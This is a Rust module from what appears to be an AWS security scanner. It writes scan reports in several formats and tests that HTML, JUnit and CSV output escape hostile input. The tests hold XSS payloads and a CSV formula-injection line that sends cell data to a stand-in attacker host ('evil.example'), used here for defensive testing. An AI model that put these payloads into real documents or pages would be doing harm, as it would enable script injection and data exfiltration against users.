//! The finished report model, and its renderers. Renderers take a
//! [`Report`] only: they never see checks or inventory.

pub mod asff;
pub mod changes;
pub mod compliance;
pub mod csv;
pub mod html;
pub mod json;
pub mod junit;
pub mod ocsf;
mod page;
pub mod sarif;
mod write;

use std::io::Write;
use std::path::{Path, PathBuf};

use anyhow::Context as _;

use crate::files::write_atomically_with;
use crate::model::Report;

/// The output formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Format {
    Json,
    Html,
    Ocsf,
    Junit,
    Sarif,
    Csv,
    Asff,
    /// One CSV per compliance framework, under `compliance/`.
    Compliance,
}

impl Format {
    pub const ALL: [Format; 8] = [
        Format::Json,
        Format::Html,
        Format::Ocsf,
        Format::Junit,
        Format::Sarif,
        Format::Csv,
        Format::Asff,
        Format::Compliance,
    ];

    /// Writes this format's files for a report named `name` into `dir`,
    /// each as it is rendered (see [`write_atomically_with`]); returns their
    /// paths.
    pub fn write(self, report: &Report, name: &str, dir: &Path) -> anyhow::Result<Vec<PathBuf>> {
        let one = |extension: &str, render: &dyn Fn(&mut dyn Write) -> anyhow::Result<()>| {
            let path = dir.join(format!("{name}.{extension}"));
            write_atomically_with(&path, render)?;
            Ok(vec![path])
        };
        match self {
            Format::Json => one("json", &|out| json::write(report, out)),
            Format::Html => one("html", &|out| html::write(report, out)),
            Format::Ocsf => one("ocsf.json", &|out| ocsf::write(report, out)),
            Format::Junit => one("junit.xml", &|out| junit::write(report, out)),
            Format::Sarif => one("sarif", &|out| sarif::write(report, out)),
            Format::Csv => one("csv", &|out| csv::write(report, out)),
            Format::Asff => one("asff.json", &|out| asff::write(report, out)),
            Format::Compliance => {
                let mut written = Vec::new();
                for framework in &report.frameworks {
                    let path = dir.join(format!("compliance/{name}_{}.csv", framework.id));
                    write_atomically_with(&path, &|out| compliance::write(report, framework, out))?;
                    written.push(path);
                }
                Ok(written)
            }
        }
    }
}

/// Writes every format asked for, each once, in a fixed order; returns the
/// paths written. Used by `scan`, `evaluate` and `merge`.
pub fn write_reports(report: &Report, formats: &[Format], dir: &Path, name: &str) -> anyhow::Result<Vec<String>> {
    let mut formats = formats.to_vec();
    formats.sort();
    formats.dedup();
    let mut written = Vec::new();
    for format in formats {
        let files = format
            .write(report, name, dir)
            .with_context(|| format!("writing the {format:?} report into {}", dir.display()))?;
        written.extend(files.iter().map(|path| path.display().to_string()));
    }
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{
        self as model, CallStats, ControlInfo, Findings, FrameworkInfo, ReportFinding, ScanSummary, Tool,
    };
    use crate::severity::{Severity, Status};

    fn hostile_report() -> Report {
        let evil = "<script>alert(1)</script>\"><img src=x onerror=alert(2)> & \u{1} ,\"quoted\"\nline";
        let mut report = Report {
            tool: Tool { name: "bulkhead".into(), version: "0.0.0".into() },
            scan: ScanSummary {
                started_at: "2026-01-01T00:00:00Z".into(),
                finished_at: "2026-01-01T00:00:05Z".into(),
                principal_arn: "arn:aws:iam::111122223333:role/audit".into(),
                accounts: vec!["111122223333".into()],
                account_names: Default::default(),
                regions: vec!["eu-west-1".into()],
                checks: vec!["c".into()],
                errors: vec![],
                unavailable_features: vec![model::UnavailableFeature {
                    account_id: "111122223333".into(),
                    region: "eu-west-1".into(),
                    feature: "ECR managed signing".into(),
                    service: "ecr".into(),
                    operation: "GetSigningConfiguration".into(),
                    message: evil.into(),
                    consequence: "judged without it".into(),
                }],
                mutelist: None,
                stats: CallStats::default(),
                shard: None,
                organizational_units: None,
            },
            findings: Findings::from(vec![ReportFinding {
                check_id: "c".into(),
                title: evil.into(),
                severity: Severity::High,
                status: Status::Fail,
                muted: false,
                mute_reason: None,
                account_id: "111122223333".into(),
                region: "eu-west-1".into(),
                service: "ec2".into(),
                resource_type: "AwsEc2SecurityGroup".into(),
                resource_id: "sg-1".into(),
                resource_arn: "arn:aws:ec2:eu-west-1:111122223333:security-group/sg-1".into(),
                message: evil.into(),
                compliance: Default::default(),
                resource_name: evil.into(),
                resource_tags: [(evil.to_owned(), evil.to_owned())].into(),
                resource_details: evil.into(),
                failing_since: None,
            }]),
            checks: vec![],
            frameworks: vec![],
            history: None,
            vulnerabilities: Some(vec![model::VulnerableImage {
                rank: 1,
                account_id: "111122223333".into(),
                region: "eu-west-1".into(),
                image: evil.into(),
                resource_arn: evil.into(),
                exposure: model::Exposure::Internet,
                running_tasks: 1,
                services: vec![evil.into()],
                reachable_through: vec![evil.into()],
                highest_severity: Some(evil.into()),
                severity_counts: [(evil.to_owned(), 1)].into(),
                fixable: 0,
                exploitable: 0,
                findings_total: 1,
                findings: vec![model::VulnerabilityInfo {
                    id: evil.into(),
                    severity: evil.into(),
                    package: Some(evil.into()),
                    fixed_in: Some(evil.into()),
                    fix_available: None,
                    exploit_available: Some(evil.into()),
                    score: None,
                    uri: Some(evil.into()),
                }],
                scan: evil.into(),
                reasons: vec![evil.into()],
            }]),
            tally: Default::default(),
        };
        report.recount().unwrap();
        report
    }

    /// The report's one finding, to change in a test.
    fn only_finding(report: &mut Report) -> &mut ReportFinding {
        match &mut report.findings {
            Findings::Memory(findings) => &mut findings[0],
            Findings::Spilled(_) => unreachable!("the test report is in memory"),
        }
    }

    #[test]
    fn html_escapes_everything_from_aws() {
        let html = html::render(&hostile_report()).unwrap();
        assert!(!html.contains("<script>alert"));
        assert!(!html.contains("<img"));
        assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2F;script&gt;"));
        assert_eq!(html.matches("<script").count(), 1, "only our own script element");
        assert!(html.contains("<section id=\"vulnerabilities\">"), "the prioritised vulnerabilities come first");
        assert!(html.find("id=\"vulnerabilities\"") < html.find("id=\"summary\""));
        assert!(
            html.contains("<li>ECR managed signing is not offered in eu-west-1 (account 111122223333; ecr:GetSigningConfiguration: &lt;script&gt;"),
            "the scan section says which feature a region does not offer, once"
        );
    }

    #[test]
    fn junit_drops_characters_xml_cannot_carry_and_escapes_the_rest() {
        let xml = String::from_utf8(junit::render(&hostile_report()).unwrap()).unwrap();
        assert!(!xml.contains('\u{1}'));
        assert!(!xml.contains("<script>") && !xml.contains("<img"));
        assert!(xml.contains("<failure message=\"&lt;script&gt;"));
    }

    #[test]
    fn csv_quotes_per_rfc_4180_and_writes_control_characters_out() {
        let text = String::from_utf8(csv::render(&hostile_report()).unwrap()).unwrap();
        assert!(
            text.contains(
                "\"<script>alert(1)</script>\"\"><img src=x onerror=alert(2)> & \\x01 ,\"\"quoted\"\"\nline\""
            )
        );
        assert!(!text.contains('\u{1}'), "no raw control character reaches the file");
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[13], csv::cell(&only_finding(&mut hostile_report()).message));
    }

    #[test]
    fn no_csv_cell_is_a_formula() {
        let mut report = hostile_report();
        let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
        only_finding(&mut report).resource_name = formula.into();
        only_finding(&mut report).resource_tags = [("@team".to_owned(), "-web".to_owned())].into();
        report.frameworks = vec![FrameworkInfo {
            id: "f".into(),
            name: "+cmd".into(),
            version: "1".into(),
            controls: vec![ControlInfo { id: "1.1".into(), title: "=1+1".into(), checks: vec!["c".into()] }],
        }];
        let framework = report.frameworks[0].clone();
        let mut compliance_csv = Vec::new();
        compliance::write(&report, &framework, &mut compliance_csv).unwrap();
        for text in [csv::render(&report).unwrap(), compliance_csv] {
            let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_slice());
            for record in reader.records() {
                for field in record.unwrap().iter() {
                    assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{field:?}");
                }
            }
        }
    }

    #[test]
    fn asff_cuts_to_security_hub_limits_and_drops_blank_strings() {
        let mut report = hostile_report();
        only_finding(&mut report).message = "A".repeat(65536);
        only_finding(&mut report).resource_name = "  ".into();
        let findings: serde_json::Value = serde_json::from_str(&asff::render(&report).unwrap()).unwrap();
        let finding = &findings[0];
        assert_eq!(finding["Description"].as_str().unwrap().chars().count(), 1024);
        assert!(finding["Title"].as_str().unwrap().chars().count() <= 256);
        assert_eq!(finding["Id"], asff::finding_id(only_finding(&mut report.clone())));
        assert_eq!(finding["Compliance"]["Status"], "FAILED");
        assert_eq!((&finding["Workflow"]["Status"], &finding["RecordState"]), (&"NEW".into(), &"ACTIVE".into()));
        assert!(finding["Resources"][0]["Details"]["Other"].get("name").is_none(), "blank strings are left out");
        // No account alias: the account is named by its id.
        assert_eq!(finding["AwsAccountName"], "111122223333");
        only_finding(&mut report).status = Status::Pass;
        let passed: serde_json::Value = serde_json::from_str(&asff::render(&report).unwrap()).unwrap();
        assert_eq!(passed[0]["RecordState"], "ARCHIVED");
        assert_eq!(passed[0]["Workflow"]["Status"], "RESOLVED");
    }

    #[test]
    fn ocsf_names_the_account_by_alias_else_id() {
        let mut report = hostile_report();
        let name = |report: &Report| -> serde_json::Value {
            let events: serde_json::Value = serde_json::from_str(&ocsf::render(report).unwrap()).unwrap();
            events[0]["cloud"]["account"]["name"].clone()
        };
        assert_eq!(name(&report), "111122223333");
        report.scan.account_names.insert("111122223333".into(), "acme-prod".into());
        assert_eq!(name(&report), "acme-prod");
    }

    #[test]
    fn every_format_renders_an_empty_report() {
        let mut report = hostile_report();
        report.findings = Findings::default();
        // A framework, so that the compliance format has a file to write.
        report.frameworks = vec![FrameworkInfo {
            id: "cis-aws-5.0".into(),
            name: "CIS".into(),
            version: "5.0.0".into(),
            controls: vec![ControlInfo { id: "1.1".into(), title: "t".into(), checks: vec!["c".into()] }],
        }];
        let dir = tempfile::tempdir().unwrap();
        for format in Format::ALL {
            let files = format.write(&report, "bulkhead", dir.path()).unwrap();
            assert_eq!(files.len(), 1, "{format:?} writes one file here");
            assert!(files.iter().all(|path| std::fs::metadata(path).unwrap().len() > 0), "{format:?}");
        }
    }
}
